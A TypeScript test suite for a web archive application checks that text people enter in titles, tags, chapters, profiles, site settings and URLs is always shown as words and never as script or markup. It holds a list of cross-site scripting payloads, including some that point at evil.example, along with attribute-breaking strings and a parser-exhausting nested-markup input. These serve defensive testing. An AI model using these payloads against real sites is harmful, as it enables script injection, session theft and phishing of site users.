// Words that want to be more than words: script, styles, frames, forms, tangles. Wherever people
// may write, they come out as words or not at all.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { decide } from '../../src/features/moderation/actions.ts';
import { saveSiteSettings } from '../../src/features/site/site-settings.ts';
import type { Visit } from '../kit/visitor.ts';
import { addressFor, bodyFor } from './access-requests.ts';
import { accessTable } from './access-table.ts';
import { dangersOf } from './page-dangers.ts';
import { type Caller, everything, type Scene, setScene } from './scene.ts';

const payloads = [
  '<script>alert(1)</script>',
  '"><script src=https://evil.example/x.js></script>',
  "'><img src=x onerror=alert(1)>",
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example" onclick="alert(1)" style="position:fixed;inset:0" target=_top>x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>*{background:url(https://evil.example/)}</style>',
  '<form action="https://evil.example/"><input name=password><button formaction=//x>x</button>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<table><caption><svg><title><style><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p id="main" class="flash" name="token">x</p>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2.gif 2x">',
  '<details open ontoggle=alert(1)>x</details>',
  '\u2028<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '{{constructor.constructor("alert(1)")()}} #{7*7}',
];

/** What may stand in the name of a tag and might still leave an attribute. */
const tagNames = [
  '" onmouseover "alert(1)" x',
  "' autofocus onfocus 'x",
  'javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#34;&#62;x',
];

test('the check of pages sees a danger where a payload stands as it is', () => {
  const page = (body: string) =>
    `<!DOCTYPE html><title>x</title><script type=module src=/assets/x.js></script>${body}`;
  assert.deepEqual(dangersOf(page('<p>Harmless.</p><a href="https://example.org">x</a>')), []);
  const harmless = /id="main"|CDATA|\u0000|constructor/;
  const dangerous = payloads.filter((payload) => !harmless.test(payload));
  for (const payload of dangerous) {
    const inAttribute = page(`<input value="${payload}">`);
    const found = [...dangersOf(page(payload)), ...dangersOf(inAttribute)];
    assert.ok(found.length > 0, payload);
  }
});

test('nothing that people write becomes more than words on any page', async (t) => {
  const scene = await setScene(t, {
    work: {
      work: { title: payloads[0] as string },
      tags: { freeform: tagNames, character: tagNames },
    },
  });
  const { ids, tagIds } = await poison(scene);
  const fixed = fixedPages(scene);
  let seen = 0;
  for (const name of ['guest', 'ada', 'dee', 'flo'] as const) {
    const { visitor } = scene.caller(name);
    const works = name === 'guest' ? pagesOfWorks(ids) : name === 'ada' ? ownPages(ids) : [];
    for (const path of [...fixed, ...works]) {
      seen += isSound(await visitor.get(path)) ? 1 : 0;
    }
  }
  assert.ok(tagIds > 5);
  assert.ok(seen > 300, `${seen} pages were seen`);
});

test('what was typed wrong comes back as words', async (t) => {
  const scene = await setScene(t);
  const all = payloads.join(' ');
  const guest = scene.caller('guest');
  const ada = scene.caller('ada');
  const work = Object.fromEntries(new URLSearchParams(bodyFor('POST /works', scene, '')));
  const everyField = Object.fromEntries(Object.keys(work).map((name) => [name, all]));
  const more = { 'chapter[title]': all, 'chapter[notes]': all, summary: all, freeforms: all };
  const text = { 'chapter[text]': all, 'chapter[format]': 'markdown' };
  const { id } = scene.work;
  const asks: readonly [Caller, string, Record<string, string>][] = [
    [ada, '/works', { ...everyField, ...more, do: 'post' }],
    [ada, '/works', { ...everyField, ...more, ...text, do: 'preview' }],
    [ada, `/works/${id}`, { ...everyField, ...more }],
    [ada, `/works/${id}/chapters`, { title: all, text: all, format: 'html', do: 'preview' }],
    [ada, `/works/${id}/chapters/order`, { [`number[${scene.work.chapters[0]?.id}]`]: all }],
    [ada, '/users/ada/preferences/pseuds', { 'pseud[name]': all }],
    [ada, '/users/ada/preferences/profile', { 'profile[title]': all, 'profile[text]': all }],
    [ada, '/users/ada/preferences/email', { 'user[email]': all, 'user[email_password]': all }],
    [ada, '/works', { ...everyField, authenticity_token: 'forged' }],
    [guest, '/users/login', { 'user[login]': all, return_to: all }],
    [guest, '/users/register', { 'user[login]': all, 'user[email]': all, 'user[password]': all }],
    [guest, '/users/password/new', { 'user[login]': all }],
    [scene.caller('dee'), '/moderation', { subject: all }],
    [scene.caller('dee'), `/moderation/works/${id}`, { reason: all.repeat(3), do: 'hide' }],
    [scene.caller('flo'), '/admin/settings', { name: all, notice: all, 'page[about]': all }],
  ];
  for (const [{ visitor, formToken }, path, fields] of asks) {
    isSound(await visitor.post(path, { authenticity_token: formToken, ...fields }));
  }
});

test('an address is repeated on a page as words', async (t) => {
  const scene = await setScene(t, { work: { tags: { rating: ['Explicit'] } } });
  // Some of each kind: an address comes apart at fewer places than a text.
  for (const payload of payloads.filter((_, at) => at % 3 === 0)) {
    const part = encodeURIComponent(payload.replaceAll('\u0000', ''));
    for (const path of [
      `/${part}`,
      `/works/${part}`,
      `/works/${scene.work.id}?${part}=${part}`,
      `/works/${scene.work.id}/edit?x=${part}`,
      `/users/login?return_to=%2F${part}`,
      `/reading?theme=${part}&return_to=%2F${part}`,
      `/works/search?q=${part}`,
      `/works?page=${part}&sort=${part}&include=${part}`,
      `/tags/${part}`,
      `/tags/search?q=${part}`,
    ]) {
      isSound(await scene.caller('guest').visitor.get(path));
      // As some tools ask: signs that a browser would encode come raw.
      isSound(await scene.caller('ada').visitor.get(path.replaceAll(/%(22|27|3E)/g, unescaped)));
    }
  }
});

function unescaped(_whole: string, hex: string): string {
  return String.fromCharCode(Number.parseInt(hex, 16));
}

test('a title and a tag are shown as they were typed', async (t) => {
  const title = '<b>Bold</b> & "quoted" &amp; {braces}';
  const tags = { freeform: ['" onmouseover "alert(1)', 'R&D &amp; more'] };
  const scene = await setScene(t, { work: { work: { title }, tags } });
  const { text } = await scene.app.guest().get(`/works/${scene.work.id}`);
  for (const words of [title, ...tags.freeform]) assert.ok(text.includes(words), words);
});

/** Puts every payload wherever people may write; answers with the works. */
async function poison(scene: Scene): Promise<{ ids: number[]; tagIds: number }> {
  const ada = scene.caller('ada');
  const ids: number[] = [scene.work.id];
  for (const payload of payloads) {
    const texts = { title: payload, summary: payload, notes: payload, endNotes: payload };
    const tagged = payload.replaceAll(/[\0,^*<>{}=`\\%]/g, ' ').slice(0, 100);
    const chapters = ['html', 'text', 'markdown'].map((format) => ({
      ...texts,
      [format]: `x ${payload}`,
    }));
    const sound = { language: 'en', rating: 10, warnings: [16], fandoms: ['Harbour Lights'] };
    const body = { ...sound, ...texts, freeforms: [tagged], chapters };
    const headers = { authorization: `Bearer ${ada.bearer}`, 'content-type': 'application/json' };
    const options = { headers, follow: false };
    const made = await ada.visitor.send('POST', '/api/v1/works', JSON.stringify(body), options);
    assert.equal(made.status, 201, made.body);
    ids.push(made.json<{ id: number }>().id);
  }
  const profile = {
    'profile[title]': payloads.slice(0, 4).join(),
    'profile[text]': payloads.join(),
  };
  const token = { authenticity_token: ada.formToken };
  const saved = await ada.visitor.post('/users/ada/preferences/profile', { ...token, ...profile });
  assert.equal(saved.status, 200);
  await poisonSite(scene);
  const { count } = await scene.app.parts.database.read
    .selectFrom('tags')
    .select((eb) => eb.fn.countAll<number>().as('count'))
    .where('type', '=', 'freeform')
    .executeTakeFirstOrThrow();
  return { ids, tagIds: Number(count) };
}

async function poisonSite({ app, work }: Scene): Promise<void> {
  const all = payloads.join(' ');
  const pages = { about: all, policy: all, terms: all, privacy: all, contact: all };
  const signals = { search: true, aiInput: false, aiTrain: false };
  const name = '</title><script>alert(1)</script>';
  const settings = { name, notice: payloads.slice(0, 4).join(), pages, signals };
  const dee = await app.member('dee');
  assert.deepEqual(await saveSiteSettings(app.parts, dee, settings), []);
  const said = payloads.slice(0, 5).join();
  const wish = { reason: said, policy: 'other', words: said, days: 0 };
  const subject = { kind: 'work', id: work.id, title: name, people: [] } as const;
  for (const act of ['hide', 'show'] as const) {
    assert.deepEqual(await decide(app.parts, dee, subject, { ...wish, act }), []);
  }
}

/** Pages that are told apart by who looks; some are refusals, and those are pages too. */
function fixedPages(scene: Scene): string[] {
  const fixed = accessTable
    .filter(
      ({ method, path }) =>
        method === 'GET' &&
        !/api|json|manifest|plan|news|autocomplete|atom|txt|csv|health|downloads|log(in|out)/.test(
          path,
        ),
    )
    .map((row) => addressFor(scene, row));
  const tags = tagNames.map((name) => `/tags/${encodeURIComponent(name)}/works`);
  return [...fixed, ...tags, '/works?page=2', '/users/ada/works?page=2'];
}

function pagesOfWorks(ids: readonly number[]): string[] {
  return ids.flatMap((id) => [`/works/${id}?view_full_work=true`, `/works/${id}/navigate`]);
}

function ownPages(ids: readonly number[]): string[] {
  return ids.flatMap((id) => [`/works/${id}/edit`, `/works/${id}/chapters/order`]);
}

/** Fails unless the page is one, and sound. */
function isSound({ response, body, path }: Visit): boolean {
  assert.ok(response.status < 500, `${path}: ${response.status}`);
  assert.match(response.headers.get('content-type') ?? '', /^text\/html/, path);
  assert.deepEqual(dangersOf(body), [], path);
  return true;
}

test('a work taken home holds no script either', async (t) => {
  const scene = await setScene(t);
  const { ids } = await poison(scene);
  for (const id of ids) {
    const { body } = await scene.app.guest().get(`/downloads/${id}/work.html`);
    const dangers = dangersOf(body).filter(
      (danger) => danger !== '<style>' && danger !== '0 scripts',
    );
    assert.deepEqual(dangers, [], body.slice(0, 3000));
  }
});

const tangle = `${'<b><i><u><em><strong><code>'.repeat(10)}${'<p>x'.repeat(10_000)}`;

test('formatting reopened by ten thousand paragraphs is refused, naming its field', async (t) => {
  const scene = await setScene(t);
  const ada = scene.caller('ada');
  const work = Object.fromEntries(new URLSearchParams(bodyFor('POST /works', scene, '')));
  const before = await everything(scene.app);
  const { id, chapters } = scene.work;
  const chapter = { title: '', text: 'x', format: 'html' };
  const fields: [Caller, string, Record<string, string>, string][] = [
    ...['summary', 'notes', 'endNotes'].flatMap((name): typeof fields => [
      [ada, '/works', work, name],
      [ada, `/works/${id}`, work, name],
      [ada, `/works/${id}/chapters`, chapter, name],
      [ada, `/works/${id}/chapters/${chapters[0]?.id}`, chapter, name],
    ]),
    [ada, '/works', work, 'chapter[text]'],
    [ada, `/works/${id}/chapters`, chapter, 'text'],
    [ada, '/users/ada/preferences/profile', { 'profile[title]': '' }, 'profile[text]'],
  ];
  for (const [{ visitor, formToken }, path, others, name] of fields) {
    const sent = { ...others, [name]: tangle, authenticity_token: formToken };
    const page = await visitor.post(path, sent);
    assert.equal(page.status, 422, `${path} ${name}`);
    const field = page.markup.find((element) => element.attribute('name') === name);
    assert.equal(field?.attribute('aria-invalid'), 'true', `${path} does not name ${name}`);
    assert.equal(field?.rawText.trim(), tangle, 'what was typed is lost');
  }
  assert.deepEqual(await everything(scene.app), before);
});
